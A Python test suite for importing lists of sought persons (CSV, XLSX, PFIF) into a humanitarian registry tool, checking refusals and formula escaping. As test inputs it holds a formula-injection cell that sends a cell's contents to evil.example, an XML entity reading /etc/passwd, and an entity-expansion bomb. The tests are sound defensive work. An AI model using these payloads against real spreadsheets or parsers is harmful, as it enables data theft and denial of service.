"""Hostile lists of sought persons: each one a clear error naming the problem, or a clean
import; nothing of a refused list is stored, and a cell that a spreadsheet would run comes back
as text in every CSV and XLSX we write."""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from fieldreg.core.errors import FieldregError
from fieldreg.reports import sought_import, table_files
from fieldreg.reports.sought_import import SoughtEntry, propose_mapping, read_table
from fieldreg.services import reconciliation
from fieldreg.services.session import Session
from tests.reports.test_pfif_parser import sample

HEADER = "Прізвище,Ім'я,По батькові,Дата народження,Стать,Населений пункт"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def csv_list(*lines: str, header: str = HEADER) -> bytes:
    return "\n".join([header, *lines]).encode("utf-8")


def entries_of(untrusted: bytes, fmt: sought_import.Format = "csv") -> list[SoughtEntry]:
    table = read_table(untrusted, fmt)
    return sought_import.table_entries(table, propose_mapping(table.header))


def refused(untrusted: bytes, fmt: sought_import.Format = "csv", encoding: str = "utf-8") -> str:
    def read() -> None:
        table = read_table(untrusted, fmt, encoding)
        sought_import.table_entries(table, propose_mapping(table.header))

    with pytest.raises(FieldregError) as caught:
        read()
    return caught.value.code


def test_a_byte_order_mark_is_dropped_and_the_columns_are_proposed() -> None:
    untrusted = codecs.BOM_UTF8 + csv_list("Коваленко,Марія,Іванівна,02.03.1984,ж,Херсон")
    table = read_table(untrusted, "csv")
    assert table.header[0] == "Прізвище"
    proposal = propose_mapping(table.header)
    assert proposal == {
        "family": 0, "given": 1, "patronymic": 2, "dob": 3, "sex": 4, "place": 5,
    }  # fmt: skip
    [entry] = sought_import.table_entries(table, proposal)
    assert entry == SoughtEntry("1", "Коваленко", "Марія", "Іванівна", "1984-03-02", "female",
                                "Херсон")  # fmt: skip


@pytest.mark.parametrize(
    ("header", "family"),
    [("Фамилия,Имя,Отчество", 0), ("Family name,Given name,Patronymic", 0), ("ID,Surname", 1)],
)
def test_headers_in_english_ukrainian_and_russian_are_recognised(header: str, family: int) -> None:
    assert propose_mapping(header.split(","))["family"] == family


@pytest.mark.parametrize(
    "header", ["Рік", "Р.н.", "Рік нар.", "Год", "Г.р.", "Дата рожд.", "Year", "Year of birth"]
)
def test_a_year_or_date_of_birth_column_is_recognised_by_its_short_names(header: str) -> None:
    """Lists write the date of birth under short headers (a Russian list's "г.р.", a
    Ukrainian one's "Рік"): the proposal maps them, so the match can use the year."""
    assert propose_mapping(["№", "Прізвище", "Ім'я", header])["dob"] == 3


def test_windows_1251_is_refused_unless_asked_for() -> None:
    untrusted = csv_list("Коваленко,Марія,,1984,,").decode().encode("cp1251")
    assert refused(untrusted) == "sought.encoding"
    table = read_table(untrusted, "csv", "cp1251")
    assert table.rows[0][:2] == ("Коваленко", "Марія")


def test_utf16_is_refused_as_another_encoding() -> None:
    untrusted = codecs.BOM_UTF16_LE + csv_list("Коваленко,Марія,,1984,,").decode().encode(
        "utf-16-le"
    )
    assert refused(untrusted) == "sought.encoding"


def test_a_formula_cell_is_stored_as_text_and_neutralised_in_what_we_write() -> None:
    [entry] = entries_of(csv_list(f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",Марія,,1984,,'))
    assert entry.family == HOSTILE  # kept as the list wrote it: text, never evaluated
    written = table_files.csv_bytes(["family"], [[entry.family]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(written)))[1] == ["'" + HOSTILE]
    workbook = openpyxl.load_workbook(io.BytesIO(table_files.xlsx_bytes(["f"], [[entry.family]])))
    cell = workbook.active["A2"]  # type: ignore[index]
    assert cell.data_type == "s"
    assert cell.value == "'" + HOSTILE


def test_an_xlsx_list_is_read_with_its_formulas_as_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Номер", "Фамилия", "Имя", "Дата рождения"])
    sheet.append(["A-1", "Ковалёв", "Алексей", 1979])
    sheet.append(["A-2", HOSTILE, "Пётр", "1950"])
    out = io.BytesIO()
    book.save(out)
    first, second = entries_of(out.getvalue(), "xlsx")
    assert (first.reference, first.family, first.given, first.dob) == (
        "A-1", "Ковалёв", "Алексей", "1979",
    )  # fmt: skip
    assert second.family == HOSTILE


def _workbook_declaring(rows: int) -> bytes:
    """A small workbook whose sheet says it has `rows` rows (its dimension tag)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Прізвище", "Ім'я"])
    sheet.append(["Коваленко", "Марія"])
    out = io.BytesIO()
    book.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    changed = io.BytesIO()
    with zipfile.ZipFile(changed, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rb'<dimension ref="[^"]+"', f'<dimension ref="A1:B{rows}"'.encode(), data
                )
            target.writestr(info, data)
    return changed.getvalue()


def test_a_workbook_declaring_a_million_rows_is_refused_unread() -> None:
    assert refused(_workbook_declaring(1_000_000), "xlsx") == "sought.too_many_rows"
    assert len(entries_of(_workbook_declaring(2), "xlsx")) == 1


def test_a_file_that_is_not_a_workbook_is_refused() -> None:
    assert refused(b"PK\x03\x04 not really a zip", "xlsx") == "sought.not_xlsx"


def test_a_million_rows_are_refused_at_the_row_limit() -> None:
    untrusted = csv_list(*(["Бо,Ір"] * 1_000_000))  # 12 MB: under the size limit
    assert refused(untrusted) == "sought.too_many_rows"


def test_a_huge_cell_is_refused() -> None:
    untrusted = csv_list("Коваленко," + "М" * (sought_import.MAX_CELL_CHARS + 1) + ",,,,")
    assert refused(untrusted) == "sought.cell_too_long"


def test_two_lines_with_one_id_are_refused() -> None:
    untrusted = csv_list("7,Коваленко,Марія", "7,Бондар,Ігор", header="ID,Прізвище,Ім'я")
    assert refused(untrusted) == "sought.duplicate_id"


def test_a_pfif_list_becomes_entries_with_its_last_note() -> None:
    [entry] = sought_import.pfif_entries(sample())
    assert entry.reference == "registry.example.org/p.1"
    assert (entry.family, entry.given, entry.dob, entry.sex, entry.place) == (
        "Коваленко", "Марія", "1961", "female", "Маріуполь",
    )  # fmt: skip
    assert entry.note == "Last seen near the theatre."


# --- through the service: nothing of a refused list is stored --------------------------------

ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE pfif [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">&x;</pfif:pfif>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    + ']><pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">&a9;</pfif:pfif>'
).encode()


@pytest.mark.parametrize(
    ("content", "fmt", "mapping", "code"),
    [
        (ENTITY, "pfif", None, "pfif.unsafe_xml"),
        (LAUGHS, "pfif", None, "pfif.unsafe_xml"),
        (csv_list("Коваленко,Марія", "Бондар,Ігор") + b"\n\xff\xfe,bad", "csv",
         "family=Прізвище", "sought.encoding"),
        (csv_list("1,Коваленко", "2,Бондар", "1,Шевченко", header="ID,Прізвище"), "csv",
         "reference=ID,family=Прізвище", "sought.duplicate_id"),
    ],
)  # fmt: skip
def test_a_refused_list_leaves_nothing_stored(
    session: Session,
    tmp_path: Path,
    *,
    content: bytes,
    fmt: sought_import.Format,
    mapping: str | None,
    code: str,
) -> None:
    path = tmp_path / "list"
    path.write_bytes(content)
    with pytest.raises(FieldregError) as caught:
        reconciliation.import_list(session, path, fmt=fmt, mapping=mapping)
    assert caught.value.code == code
    assert reconciliation.lists(session) == []


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as out:
        out.truncate(sought_import.MAX_FILE_BYTES + 1)  # sparse: nothing to read if refused
    with pytest.raises(FieldregError) as caught:
        reconciliation.preview(path, "csv")
    assert caught.value.code == "sought.too_large"


def test_a_link_is_not_read(session: Session, tmp_path: Path) -> None:
    target = tmp_path / "real.csv"
    target.write_bytes(csv_list("Коваленко,Марія"))
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    with pytest.raises(FieldregError) as caught:
        reconciliation.import_list(session, link, fmt="csv", mapping={"family": 0})
    assert caught.value.code == "sync.not_a_file"
    assert reconciliation.lists(session) == []


def test_a_clean_list_is_stored_whole_and_sealed(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(csv_list("Коваленко,Марія,,1984,,", "Бондар,Ігор,,1990,,"))
    info = reconciliation.import_list(
        session, path, fmt="csv", mapping="family=Прізвище,given=Ім'я", owner="ICRC"
    )
    [shown] = reconciliation.lists(session)
    assert (shown.list_id, shown.entries, shown.owner) == (info.list_id, 2, "ICRC")
    assert "Коваленко".encode() not in session.data_dir.db.read_bytes()


def test_a_pfif_list_is_stored_with_its_people(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "request.pfif.xml"
    path.write_bytes(sample())
    info = reconciliation.import_list(session, path, fmt="pfif", source="registry.example.org")
    assert info.entries == 1
    [match] = reconciliation.match(session, info.list_id)
    assert match.entry.reference == "registry.example.org/p.1"
    assert match.entry.note == "Last seen near the theatre."
